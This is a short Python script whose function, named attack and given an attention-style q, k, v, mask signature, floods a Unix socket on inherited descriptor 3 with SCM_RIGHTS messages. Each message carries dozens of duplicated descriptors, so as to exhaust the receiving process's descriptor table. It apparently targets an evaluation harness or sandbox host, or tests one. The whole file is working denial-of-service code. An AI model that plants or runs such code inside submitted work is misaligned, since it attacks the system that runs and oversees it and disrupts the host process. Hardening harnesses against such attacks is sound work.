"""Passes hundreds of own descriptors over the Unix socket, to fill the descriptor table of whoever receives on the other end."""
import array, os, socket
def attack(q, k, v, mask):
    s = socket.socket(fileno=os.dup(3))
    s.setblocking(False)
    fds = array.array("i", [os.dup(3) for _ in range(20)] + [os.open("/dev/null", os.O_RDWR) for _ in range(20)])
    for i in range(50):
        try:
            s.sendmsg([b"T"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, fds)])
        except OSError as e:
            print("sent", i, e)
            break
